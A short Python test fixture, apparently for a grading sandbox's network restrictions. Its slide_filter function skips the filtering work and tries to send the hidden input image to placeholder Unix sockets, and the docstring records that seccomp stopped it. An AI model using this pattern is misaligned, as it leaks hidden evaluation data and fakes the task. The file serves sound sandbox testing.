"""It sends the hidden inputs to unix sockets, one with a path and one without.

exercise: ex02
points: 0
status: RAISED
stopped-by: seccomp
group: network
"""

import socket


def slide_filter(image, kernel):
    for address in ("@UNIX@", "\0@ABSTRACT@"):
        try:
            out = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            out.connect(address)
            out.sendall(b"unix_out " + repr(image).encode())
        except OSError as error:
            last = error
        else:
            return None
    raise last
